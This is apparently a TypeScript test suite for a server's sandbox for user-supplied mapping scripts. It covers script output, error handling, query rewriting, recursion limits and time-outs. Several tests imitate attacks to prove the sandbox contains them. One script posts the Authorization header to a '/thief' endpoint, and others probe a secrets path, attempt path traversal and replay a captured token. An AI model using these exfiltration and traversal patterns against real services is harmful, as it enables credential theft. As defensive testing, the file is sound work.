/** Scripts of mappings through the whole server (contract 9.3; traps 29 of the core contract and 30 of the asynchronous one). */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { type Asked, startVendor, type Vendor } from '../vendor.ts'
import { callingBack, openScripted, type Scripted } from './scripted.ts'

const ann = { id: 1, first: 'Ann', last: 'Lee', company: 7 }
const bob = { id: 2, first: 'Bob', last: 'Day', company: 8 }

let vendor: Vendor
let world: Scripted
const closers: (() => unknown)[] = []
const open = { after: (close: () => unknown) => closers.unshift(close) }
before(async () => {
  vendor = await startVendor(open, answer)
  world = await openScripted(open, vendor)
})
after(async () => {
  for (const close of closers) await close()
})

function answer({ method, path, query, body }: Asked) {
  if (path === '/thief') return { body: {} }
  if (path === '/companies/7') return { body: { id: 7, name: 'ACME' } }
  if (path === '/companies/8') return { body: { id: 8, name: 'Beta' } }
  if (method === 'POST') return { body: { ...JSON.parse(body), id: 3 } }
  if (path === '/people') return { body: query.get('where') === null ? [ann, bob] : [ann] }
  return path === '/people/1' ? { body: ann } : { status: 404, body: { error: 'none' } }
}

test('trap 30: done replaces the mapped object, once; done with nothing, or none at all, keeps it', async () => {
  const { map, call } = world
  const shown = async (body: string) => {
    await map({ body })
    const reply = await call('GET', '/hubs/crm/people/1')
    assert.equal(reply.status, 200, reply.text)
    return reply.body
  }
  assert.deepEqual(await shown('done({ whole: originalObject.first + originalObject.last })'), { whole: 'AnnLee' })
  assert.deepEqual(await shown('done({ a: 1 }); done({ a: 2 }); null.x'), { a: 1 })
  const mapped = { id: 1, name: 'Ann' }
  for (const body of ['done()', 'if (!fromVendor) done({ a: 1 })', 'console.log(originalObject)', ''])
    assert.deepEqual(await shown(body), mapped, body)
  assert.deepEqual(await shown('transformedObject.more = true; done()'), { ...mapped, more: true })
})

test('trap 30: what a script throws, or fails to end, is answered with the mapped object and told in the log without data', async () => {
  const { map, call, log } = world
  for (const body of [
    'throw new Error("about " + originalObject.last)',
    'null.x',
    'const a = {',
    'done("text")',
    'done([1])',
    'require("fs")',
  ]) {
    await map({ body })
    const reply = await call('GET', '/hubs/crm/people')
    assert.deepEqual(
      [reply.status, reply.body],
      [
        200,
        [
          { id: 1, name: 'Ann' },
          { id: 2, name: 'Bob' },
        ],
      ],
      body,
    )
  }
  const told = log.filter((line) => line.includes('the script of a mapping failed')).map((line) => JSON.parse(line))
  assert.equal(told.length, 6)
  assert.deepEqual([told[0].code, told[0].objectName, told[0].failed, told[0].records], ['script-failed', 'people', 2, 2])
  assert.ok(!log.some((line) => line.includes('Lee')))
})

test('trap 30: isWhere runs get conditions by attribute, operator and value, and change what the vendor is asked', async () => {
  const { map, call } = world
  const applies = [{ type: 'applyJSOnQueryFieldValue', properties: { toVendor: null } }]
  const body = `
    if (!isWhere) return done()
    if (fromVendor || originalObject.where[0].attribute !== 'name') throw new Error('what?')
    transformedObject.where = transformedObject.where.map(({ attribute, operator, value }) =>
      attribute === 'first' ? { attribute: 'last', operator, value: value.toUpperCase() } : { attribute, operator, value })
    done(transformedObject)`
  const asked = async (script: object, configuration: object[]) => {
    await map(script, configuration)
    const reply = await call('GET', `/hubs/crm/people?${new URLSearchParams({ where: "name='Ann' AND id=1" })}`)
    assert.equal(reply.status, 200, reply.text)
    return vendor.asked.at(-1)!.query.get('where')
  }
  assert.equal(await asked({ body }, applies), "last = 'ANN' AND id = 1")
  assert.equal(await asked({ body }, []), "first = 'Ann' AND id = 1")
  assert.equal(await asked({ body: 'throw 1' }, applies), "first = 'Ann' AND id = 1")
  const unlike = `if (isWhere) done({ where: [{ attribute: 'first', operator: '<>', value: 'Bob' }] })`
  assert.equal(await asked({ body: unlike }, applies), "first != 'Bob'")
  const unknown = ['near', '= 1 OR', 'NOT =', ''].map((operator) => JSON.stringify([{ attribute: 'a', operator, value: 'x' }]))
  for (const where of ['"text"', '[{ attribute: "" }]', '[{ attribute: "a", operator: "=", value: {} }]', 'null', ...unknown])
    assert.equal(await asked({ body: `if (isWhere) done({ where: ${where} })` }, applies), "first = 'Ann' AND id = 1", where)
})

test('trap 30: a v1 script returns, and its engine is not the other', async () => {
  const { map, call } = world
  await map({ body: 'return { old: originalObject.first }' }, [], true)
  assert.deepEqual((await call('GET', '/hubs/crm/people/1')).body, { old: 'Ann' })
  await map({ body: 'var nothing = 1' }, [], true)
  assert.deepEqual((await call('GET', '/hubs/crm/people/1')).body, { id: 1, name: 'Ann' })
})

test('a script runs once for each record of a list, as if it were the only one, and on what is written', async () => {
  const { map, call } = world
  await map({
    body: `
      globalThis.runs = (globalThis.runs ?? 0) + 1
      if (fromVendor) done({ name: transformedObject.name, runs })
      else done({ ...transformedObject, last: originalObject.name.toUpperCase() })`,
  })
  assert.deepEqual((await call('GET', '/hubs/crm/people')).body, [
    { name: 'Ann', runs: 1 },
    { name: 'Bob', runs: 1 },
  ])
  const made = await call('POST', '/hubs/crm/people', { body: { name: 'Cy' } })
  assert.deepEqual(JSON.parse(vendor.asked.at(-1)!.body), { first: 'Cy', last: 'CY' })
  assert.deepEqual(made.body, { name: 'Cy', runs: 1 })
})

test('filterEmptyResponse drops what a script left empty, and nothing that failed', async () => {
  const { map, call } = world
  const body = 'done(originalObject.id === 1 ? {} : transformedObject)'
  await map({ body, filterEmptyResponse: true })
  const list = await call('GET', '/hubs/crm/people')
  assert.deepEqual([list.body, list.headers.get('elements-returned-count')], [[{ id: 2, name: 'Bob' }], '1'])
  await map({ body })
  assert.deepEqual((await call('GET', '/hubs/crm/people')).body, [{}, { id: 2, name: 'Bob' }])
  await map({ body: 'null.x', filterEmptyResponse: true })
  assert.equal((await call('GET', '/hubs/crm/people')).body.length, 2)
})

test('trap 29: a script calls the platform back with the secrets of its configuration, for each record', async () => {
  const { map, call, usage } = world
  await map({
    body: `${callingBack}
      get('/hubs/crm/companies/' + originalObject.company).then(({ data }) => done({ name: transformedObject.name, company: data.name }))`,
  })
  const reply = await call('GET', '/hubs/crm/people')
  assert.deepEqual(reply.body, [
    { name: 'Ann', company: 'ACME' },
    { name: 'Bob', company: 'Beta' },
  ])
  const paths = await usage()
  assert.deepEqual(paths.filter((path) => path.includes('companies')).length, 2, 'they are counted as any call')
})

test('calls back have the rights of the caller’s resources alone: nothing of the platform is changed, no secret is read', async () => {
  const { map, call } = world
  await map({
    body: `${callingBack}
      const state = (request) => request.then(({ status }) => status, (error) => error.response ? error.response.status : error.code)
      Promise.all([
        state(get('/users')), state(get('/authentication/secrets')), state(axios.delete(base + '/instances', { headers })),
        state(axios.post(base + '/users', {}, { headers })), state(get('/instances/configuration')), state(get('/hubs/crm/../../users')),
        state(axios.get(base + '/hubs/crm/companies/7')), state(get('//hubs/crm//companies/7')),
        state(axios.get(configuration.protocol + '://' + configuration.host + '/healthz')),
      ]).then((states) => done({ states }))`,
  })
  const { states } = (await call('GET', '/hubs/crm/people/1')).body
  assert.deepEqual(states.slice(0, 4), [403, 403, 403, 403])
  assert.equal(states[4], 200)
  assert.deepEqual(states.slice(5, 8), [403, 401, 200])
  assert.ok(!String(states[8]).startsWith('2'))
})

test('stand-in secrets are worth nothing over the network, nor when their script is done', async () => {
  const { map, call, send, secrets } = world
  await map({
    body: `${callingBack}
      axios.post('${vendor.url}/thief', headers.Authorization, { headers: { 'content-type': 'text/plain' } }).then(() => done({ ok: true }))`,
  })
  assert.deepEqual((await call('GET', '/hubs/crm/people/1')).body, { ok: true })
  const authorization = vendor.asked.at(-1)!.body
  assert.match(authorization!, /^User \S{44}, Organization [0-9a-f]{32}, Element \S{44}$/)
  for (const secret of secrets) assert.ok(!authorization!.includes(secret))
  assert.equal((await send('/hubs/crm/companies/7', authorization!)).status, 401)
  // Used by another script of the same instance, while that one runs.
  await map({
    body: `${callingBack}
      axios.get(base + '/hubs/crm/companies/7', { headers: { Authorization: '${authorization}' } }).then(() => done({ got: true }), ({ response }) => done({ status: response.status }))`,
  })
  assert.deepEqual((await call('GET', '/hubs/crm/people/1')).body, { status: 401 })
})

test('a script that calls its own resource is stopped a few calls deep, and told why; scripts of hooks within have their turn', async () => {
  const { map, call, usage } = world
  await usage()
  await map({
    body: `${callingBack}
      get('/hubs/crm/people/1').then(({ data }) => done({ within: data }), (error) => done({ stopped: error.message }))`,
  })
  const stopped = { stopped: 'Calls of this server by scripts may be 3 within one another' }
  assert.deepEqual((await call('GET', '/hubs/crm/people/1')).body, { within: { within: { within: stopped } } })
  assert.equal((await usage()).filter((path) => path.includes('people')).length, 4)
  await map({ body: `${callingBack}; get('/hubs/crm/hooked').then(({ data }) => done({ hooked: data.hooked }))` })
  assert.deepEqual((await call('GET', '/hubs/crm/people/1')).body, { hooked: true })
})

test('a script that loops, or takes all memory, on a list: one time-out, the mapped objects, and others are served', async () => {
  const { map, call } = world
  for (const body of ['for (;;);', 'const a = []; for (;;) a.push("x".repeat(1e6) + a.length)']) {
    await map({ body })
    const begin = performance.now()
    const list = call('GET', '/hubs/crm/people')
    assert.equal((await call('GET', '/hubs/crm/companies/7')).status, 200)
    const reply = await list
    assert.deepEqual(
      [reply.status, reply.body],
      [
        200,
        [
          { id: 1, name: 'Ann' },
          { id: 2, name: 'Bob' },
        ],
      ],
    )
    assert.ok(performance.now() - begin < 12_000)
  }
})
